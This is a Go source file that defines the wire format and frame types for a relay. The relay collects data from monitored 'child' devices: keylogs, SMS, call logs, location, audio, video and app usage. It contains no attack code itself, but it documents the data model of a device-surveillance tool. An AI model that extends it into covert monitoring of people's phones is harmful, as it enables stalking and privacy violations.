package frames

import (
	"sync"
	"time"
)

type Kind string

const (
	KindBinary Kind = "binary"
	KindText   Kind = "text"
	KindSystem Kind = "system"
)

// Lifecycle envelope discriminators (the `type` field).
const (
	TypeChildConnected    = "child_connected"
	TypeChildDisconnected = "child_disconnected"
	TypeDeviceRenamed     = "device_renamed"
	TypeNotification      = "notification"
	TypeActivity          = "activity"
)

// Data envelope discriminators (the `dataType` field).
const (
	DataAudioFrame        = "audio_frame"
	DataAudio             = "audio"
	DataLocation          = "location"
	DataSms               = "sms"
	DataCallLog           = "call_log"
	DataKeylog            = "keylog"
	DataDeviceInfo        = "device_info"
	DataAppUsage          = "app_usage"
	DataRecordingComplete = "recording_complete"
	DataAppIcon           = "app_icon"
	DataError             = "error"
	DataAudioError        = "audio_error"
	DataCameraError       = "camera_error"
	DataLocationError     = "location_error"
	DataScreenRecordError = "screen_record_error"
)

// System frame names emitted by the connection manager itself.
const (
	SystemRelayConnected    = "relay_connected"
	SystemRelayDisconnected = "relay_disconnected"
)

// Frame is one unit received from the relay: a binary media frame, a
// structured text message, or a local connection-lifecycle marker.
type Frame interface {
	Kind() Kind
	ReceivedAt() time.Time
}

// BinaryFrame carries raw media bytes. The relay sends the current video
// image this way, without an envelope.
type BinaryFrame struct {
	at     time.Time
	data   []byte
	pooled bool
}

func NewBinaryFrame(at time.Time, data []byte) BinaryFrame {
	return BinaryFrame{at: at, data: data}
}

// NewBinaryFrameFromPool copies data into a pooled buffer. Call
// ReleaseBinaryFrame once the frame has been consumed.
func NewBinaryFrameFromPool(at time.Time, data []byte) BinaryFrame {
	buf := acquireBuf(len(data))
	copy(buf, data)
	return BinaryFrame{at: at, data: buf, pooled: true}
}

func (b BinaryFrame) Kind() Kind            { return KindBinary }
func (b BinaryFrame) ReceivedAt() time.Time { return b.at }
func (b BinaryFrame) Data() []byte          { return append([]byte(nil), b.data...) }
func (b BinaryFrame) RawPayload() []byte    { return b.data }

func ReleaseBinaryFrame(f Frame) bool {
	bf, ok := f.(BinaryFrame)
	if !ok {
		if bp, ok := f.(*BinaryFrame); ok {
			bf = *bp
		} else {
			return false
		}
	}
	if bf.pooled {
		releaseBuf(bf.data)
		return true
	}
	return false
}

// TextFrame carries one unparsed JSON envelope. Parsing happens in the
// demultiplexer so a malformed message never takes down the read loop.
type TextFrame struct {
	at   time.Time
	data []byte
}

func NewTextFrame(at time.Time, data []byte) TextFrame {
	return TextFrame{at: at, data: data}
}

func (t TextFrame) Kind() Kind            { return KindText }
func (t TextFrame) ReceivedAt() time.Time { return t.at }
func (t TextFrame) Data() []byte          { return t.data }

// SystemFrame marks a local transport event (connection established or
// lost). It never originates from the remote agent.
type SystemFrame struct {
	at   time.Time
	name string
}

func NewSystemFrame(at time.Time, name string) SystemFrame {
	return SystemFrame{at: at, name: name}
}

func (s SystemFrame) Kind() Kind            { return KindSystem }
func (s SystemFrame) ReceivedAt() time.Time { return s.at }
func (s SystemFrame) Name() string          { return s.name }

// Envelope is the decoded wire shape of a structured relay message. Fields
// are a union across every variant; the discriminator pair (Type, DataType)
// selects which ones are meaningful. The `type` and `address` keys are
// overloaded by the wire format: `type` doubles as the lifecycle
// discriminator, the SMS direction, the call kind and the recording
// source, and `address` doubles as the SMS sender and the location string.
// The `dataType` and `data_type` keys coexist on generic error envelopes,
// so decoding must match keys exactly, not case- or separator-insensitively.
type Envelope struct {
	Type       string `json:"type"`
	DataType   string `json:"dataType"`
	DeviceID   string `json:"deviceId"`
	DeviceName string `json:"deviceName"`

	// Data is either a base64 string (audio frames), a legacy free-text
	// encoding, or a nested payload object depending on DataType.
	Data any `json:"data"`

	Timestamp any   `json:"timestamp"`
	Sequence  int64 `json:"sequence"`

	// Top-level location shape. Some agents report coordinates here
	// instead of nesting them under Data.
	Latitude  float64 `json:"latitude"`
	Longitude float64 `json:"longitude"`
	Address   string  `json:"address"`

	// SMS and call log top-level shapes.
	Body     string `json:"body"`
	Name     string `json:"name"`
	Number   string `json:"number"`
	Duration int    `json:"duration"`
	Date     any    `json:"date"`

	// Error variants.
	Error     string `json:"error"`
	Message   string `json:"message"`
	ErrorKind string `json:"data_type"`

	// Recording completion.
	File string `json:"file"`

	// App icon delivery.
	PackageName string `json:"package_name"`
	AppName     string `json:"app_name"`
}

var bufPool = sync.Pool{
	New: func() any {
		return make([]byte, 0, 8192)
	},
}

func acquireBuf(size int) []byte {
	b := bufPool.Get().([]byte)
	if cap(b) < size {
		return make([]byte, size)
	}
	return b[:size]
}

func releaseBuf(b []byte) {
	bufPool.Put(b[:0])
}
